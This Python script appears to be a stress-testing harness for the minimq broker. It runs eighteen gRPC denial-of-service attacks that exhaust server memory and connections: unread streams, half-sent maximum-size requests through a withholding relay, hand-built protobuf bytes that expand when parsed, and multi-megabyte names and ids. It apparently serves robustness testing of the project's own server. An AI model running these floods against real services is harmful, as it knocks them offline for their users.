"""The attacks of `flood_table.py` on a broker: `python flood_attacks.py NAME ADDRESS SECONDS SCALE`.

Each attack is a function that makes calls which our clients never make, and holds them until its time is over. `SCALE`
is 1 for the full attack, less for a short one. Requests are serialized once and sent by untyped calls, so that the
attacker is not the bottleneck.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import count, repeat
from typing import Any

import grpc

from minimq_proto.v1 import broker_pb2, replication_pb2

MIB = 1 << 20
#: The topic, and the size and number of the batches that it gets before the attack.
TOPIC, BATCH_BYTES, BATCHES = "flooded", 4 * MIB, 24
#: Nearly the largest request that a broker accepts with default options.
LARGEST = 9 * MIB - 1024
#: Streams per connection: streams beyond the server's limit would wait in the client.
STREAMS_PER_CONNECTION = 50

_OPTIONS = (
    ("grpc.max_send_message_length", -1),
    ("grpc.max_receive_message_length", -1),
    ("grpc.use_local_subchannel_pool", 1),
    ("grpc.enable_http_proxy", 0),
)


class Attacker:
    """Connections to one broker, which stay open with their calls until the time is over."""

    def __init__(self, address: str, scale: float, seconds: float) -> None:
        self.address = address
        self.seconds = seconds
        self.until = time.monotonic() + seconds
        self._scale = scale
        self._over = threading.Event()
        self._channels: list[grpc.Channel] = []
        threading.Timer(seconds, self._over.set).start()

    def some(self, number: int) -> int:
        """Return a number scaled to this attack."""
        return max(1, round(number * self._scale))

    @property
    def is_over(self) -> bool:
        return self._over.is_set()

    def wait(self, most_s: float | None = None) -> bool:
        """Wait at most `most_s` for the end of the time. Returns whether it is over."""
        return self._over.wait(most_s)

    def hold(self, calls: object) -> None:
        """Keep references to calls until the time is over, since gRPC cancels unreferenced calls."""
        self.wait()
        del calls

    def channel(self, address: str = "") -> grpc.Channel:
        made = grpc.insecure_channel(address or self.address, options=_OPTIONS)
        self._channels.append(made)
        return made

    def stream(self, channel: grpc.Channel, method: str, requests: Iterator[bytes]) -> Any:
        """Open a stream without reading its answers."""
        call: Any = channel.stream_stream(f"/minimq.v1.{method}")
        return call(requests)

    def streams(self, number: int, method: str, make: Callable[[int], Iterator[bytes]]) -> list[Any]:
        """Open many streams, over as many connections as they need."""
        calls, channel = [], self.channel()
        for index in range(number):
            if index % STREAMS_PER_CONNECTION == STREAMS_PER_CONNECTION - 1:
                channel = self.channel()
            calls.append(self.stream(channel, method, make(index)))
        return calls

    def open(self, *requests: bytes) -> Iterator[bytes]:
        """Yield requests, and then keep the stream open."""
        yield from requests
        self.wait()

    def together(self, number: int, method: str, request: bytes) -> None:
        """Make `number` concurrent calls, repeatedly."""
        channel = self.channel()
        call: Any = channel.unary_unary(f"/minimq.v1.{method}")

        def repeated() -> None:
            while not self.is_over:
                try:
                    call(request, timeout=max(0.1, self.until - time.monotonic()))
                except grpc.RpcError:
                    time.sleep(0.1)

        with ThreadPoolExecutor(number) as pool:
            for _ in range(number):
                pool.submit(repeated)


def pulls_unread(attacker: Attacker) -> None:
    """Pull streams whose answers are not read."""
    request = broker_pb2.PullRequest(
        pull_id=1, topic=TOPIC, queue_id=0, max_messages=1 << 40, max_bytes=1 << 40, wait_ms=60_000
    ).SerializeToString()
    calls = attacker.streams(attacker.some(300), "Broker/Pull", lambda _: attacker.open(request))
    attacker.hold(calls)


def snapshots_unread(attacker: Attacker) -> None:
    """Snapshots that are not read."""
    request = replication_pb2.TakeSnapshot().SerializeToString()
    calls = attacker.streams(attacker.some(200), "Replication/Snapshot", lambda _: attacker.open(request))
    attacker.hold(calls)


def appends_rejected(attacker: Attacker) -> None:
    """Batches for topics with names of 4 MiB, on streams whose answers are not read."""
    request = broker_pb2.AppendRequest(
        appends=[broker_pb2.Append(request_id=1, topic="t" * 4 * MIB, batch=b"x")]
    ).SerializeToString()

    def flood(_: int) -> Iterator[bytes]:
        for one in repeat(request):
            if attacker.is_over:
                return
            yield one

    calls = attacker.streams(attacker.some(20), "Broker/Append", flood)
    attacker.hold(calls)


def appends_half_sent(attacker: Attacker) -> None:
    """Batches of maximum size, sent without their end."""
    number, size = attacker.some(60), LARGEST
    request = broker_pb2.AppendRequest(
        appends=[broker_pb2.Append(request_id=1, topic=TOPIC, batch=os.urandom(size))]
    ).SerializeToString()
    relay = HalfRelay(attacker.address, number * (size - MIB))
    channel = attacker.channel(relay.address)
    calls = [attacker.stream(channel, "Broker/Append", attacker.open(request)) for _ in range(number)]
    attacker.hold(calls)


def connections_half_sent(attacker: Attacker) -> None:
    """Batches of maximum size, sent without their end, each on its own connection."""
    number, size = attacker.some(60), LARGEST
    request = broker_pb2.AppendRequest(
        appends=[broker_pb2.Append(request_id=1, topic=TOPIC, batch=os.urandom(size))]
    ).SerializeToString()
    relays = [HalfRelay(attacker.address, size - MIB) for _ in range(number)]
    calls = [
        attacker.stream(attacker.channel(relay.address), "Broker/Append", attacker.open(request)) for relay in relays
    ]
    attacker.hold(calls)


def appends_whole(attacker: Attacker) -> None:
    """Streams that send one large batch, which is rejected, and then stay idle."""
    request = broker_pb2.AppendRequest(
        appends=[broker_pb2.Append(request_id=1, topic=TOPIC, batch=os.urandom(LARGEST))]
    ).SerializeToString()
    number, calls = attacker.some(60), []
    for _ in range(number):
        calls.append(attacker.stream(attacker.channel(), "Broker/Append", attacker.open(request)))
        if attacker.wait(attacker.seconds / 2 / number):
            break
    attacker.hold(calls)


def commits_half_sent(attacker: Attacker) -> None:
    """Commits as large as a batch, sent without their end, each on its own connection."""
    number, size = attacker.some(60), LARGEST
    item = broker_pb2.QueueOffset(topic=TOPIC, queue_id=0).SerializeToString()
    request = b"".join((b"\x1a", bytes((len(item),)), item)) * (size // (len(item) + 2))
    relays = [HalfRelay(attacker.address, size - MIB) for _ in range(number)]
    calls: list[Any] = [
        attacker.channel(relay.address).unary_unary("/minimq.v1.Broker/CommitOffsets") for relay in relays
    ]
    running = [call.future(request) for call in calls]
    attacker.hold(running)


def commits_of_nothing(attacker: Attacker) -> None:
    """Commits with as many empty offsets as fit: parsed, they are seventy times as large."""
    number = broker_pb2.CommitOffsetsRequest.DESCRIPTOR.fields_by_name["offsets"].number
    request = bytes((number << 3 | 2, 0)) * (MIB // 2 - 64)
    attacker.together(attacker.some(40), "Broker/CommitOffsets", request)


def joins_of_nothing(attacker: Attacker) -> None:
    """Members that claim to hold as many unnamed queues as fit into a request."""
    number = broker_pb2.JoinGroup.DESCRIPTOR.fields_by_name["held"].number
    held = bytes((number << 3 | 2, 0)) * (MIB // 2 - 64)

    def join(index: int) -> Iterator[bytes]:
        plain = broker_pb2.JoinGroup(group=f"nothing-{index}", topics=[TOPIC], allocation="averagely")
        request = broker_pb2.SessionRequest(client_id=f"nothing-{index}", heartbeat=broker_pb2.Heartbeat(number=1))
        yield request.SerializeToString()
        inner = plain.SerializeToString() + held
        yield (
            bytes((broker_pb2.SessionRequest.DESCRIPTOR.fields_by_name["join"].number << 3 | 2,))
            + _varint(len(inner))
            + inner
        )
        attacker.wait()

    calls = attacker.streams(attacker.some(100), "Broker/Session", join)
    attacker.hold(calls)


def _varint(number: int) -> bytes:
    found = b""
    while number > 0x7F:
        found += bytes((number & 0x7F | 0x80,))
        number >>= 7
    return found + bytes((number,))


def topics_of_long_names(attacker: Attacker) -> None:
    """Descriptions of topics with names of 60 MiB."""
    request = broker_pb2.DescribeTopicRequest(topic="t" * 60 * MIB).SerializeToString()
    attacker.together(attacker.some(40), "Broker/DescribeTopic", request)


def topics_of_rather_long_names(attacker: Attacker) -> None:
    """Descriptions of topics whose names just fit the size limit of a batch."""
    request = broker_pb2.DescribeTopicRequest(topic="t" * LARGEST).SerializeToString()
    attacker.together(attacker.some(40), "Broker/DescribeTopic", request)


def long_filters(attacker: Attacker) -> None:
    """Groups with filters of 50 MiB and of 8 MiB."""

    def join(index: int) -> Iterator[bytes]:
        text = "a" * (50 if index % 2 else 8) * MIB
        request = broker_pb2.JoinGroup(group=f"filters-{index}", topics=[TOPIC], filters=[text], allocation="averagely")
        yield broker_pb2.SessionRequest(client_id=f"filters-{index}", join=request).SerializeToString()
        attacker.wait()

    calls = attacker.streams(attacker.some(30), "Broker/Session", join)
    attacker.hold(calls)


def long_client_ids(attacker: Attacker) -> None:
    """Sessions of clients with ids of 8 MiB."""
    text = "c" * 8 * MIB

    def begin(index: int) -> Iterator[bytes]:
        heartbeat = broker_pb2.Heartbeat(number=1)
        yield broker_pb2.SessionRequest(client_id=f"{text}{index}", heartbeat=heartbeat).SerializeToString()
        attacker.wait()

    calls = attacker.streams(attacker.some(100), "Broker/Session", begin)
    attacker.hold(calls)


def members_that_claim(attacker: Attacker) -> None:
    """Members of one group that claim to hold 4,000 queues each."""

    def join(index: int) -> Iterator[bytes]:
        held = [
            broker_pb2.QueueName(topic=TOPIC, broker_name=f"broker-{index}", queue_id=number) for number in range(4000)
        ]
        request = broker_pb2.JoinGroup(group="claims", topics=[TOPIC], held=held, allocation="averagely")
        yield broker_pb2.SessionRequest(client_id=f"claims-{index}", join=request).SerializeToString()
        attacker.wait()

    calls = attacker.streams(attacker.some(600), "Broker/Session", join)
    attacker.hold(calls)


def heartbeats_unread(attacker: Attacker) -> None:
    """Sessions that send heartbeats as fast as they can, and read no answers."""

    def beat(index: int) -> Iterator[bytes]:
        client_id = f"heart-{index}"
        for number in count(1):
            if attacker.is_over:
                return
            heartbeat = broker_pb2.Heartbeat(number=number)
            yield broker_pb2.SessionRequest(client_id=client_id, heartbeat=heartbeat).SerializeToString()

    calls = attacker.streams(attacker.some(20), "Broker/Session", beat)
    attacker.hold(calls)


def million_queues(attacker: Attacker) -> None:
    """One member that requests a million queues."""
    queues = [broker_pb2.QueueEpoch(topic=TOPIC, queue_id=number % 8) for number in range(attacker.some(1_000_000))]
    join = broker_pb2.JoinGroup(group="millions", topics=[TOPIC], allocation="averagely")
    acquire = broker_pb2.AcquireQueues(group="millions", queues=queues)
    requests = (
        broker_pb2.SessionRequest(client_id="millions", join=join).SerializeToString(),
        broker_pb2.SessionRequest(client_id="millions", acquire=acquire).SerializeToString(),
    )
    call = attacker.stream(attacker.channel(), "Broker/Session", attacker.open(*requests))
    attacker.hold(call)


def million_offsets(attacker: Attacker) -> None:
    """Commits of three million offsets each."""
    item = broker_pb2.QueueOffset(topic=TOPIC, queue_id=0)
    offsets = [item] * attacker.some(3_000_000)
    request = broker_pb2.CommitOffsetsRequest(group="millions", offsets=offsets).SerializeToString()
    attacker.together(1, "Broker/CommitOffsets", request)


def silent_streams(attacker: Attacker) -> None:
    """Streams of every kind without any requests."""
    number = attacker.some(400)
    calls = [
        attacker.streams(number, method, lambda _: attacker.open())
        for method in ("Broker/Session", "Broker/Append", "Broker/Pull", "Replication/Replicate")
    ]
    attacker.hold(calls)


class HalfRelay:
    """Forwards the first `most` bytes to a server at HOST:PORT, and holds the rest back."""

    def __init__(self, server: str, most: int) -> None:
        host, _, port = server.rpartition(":")
        self._server, self._most = (host, int(port)), most
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        client, _ = self._listener.accept()
        server = socket.create_connection(self._server)
        threading.Thread(target=self._pass_back, args=(server, client), daemon=True).start()
        passed = 0
        while passed < self._most and (data := client.recv(1 << 18)):
            server.sendall(data)
            passed += len(data)
        threading.Event().wait()

    def _pass_back(self, server: socket.socket, client: socket.socket) -> None:
        while data := server.recv(1 << 16):
            client.sendall(data)


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    function.__name__: function
    for function in (
        pulls_unread,
        snapshots_unread,
        appends_rejected,
        appends_half_sent,
        appends_whole,
        connections_half_sent,
        commits_half_sent,
        commits_of_nothing,
        joins_of_nothing,
        topics_of_long_names,
        topics_of_rather_long_names,
        long_filters,
        long_client_ids,
        members_that_claim,
        heartbeats_unread,
        million_queues,
        million_offsets,
        silent_streams,
    )
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](Attacker(sys.argv[2], float(sys.argv[4]), float(sys.argv[3])))
    os._exit(0)  # without waiting for running calls
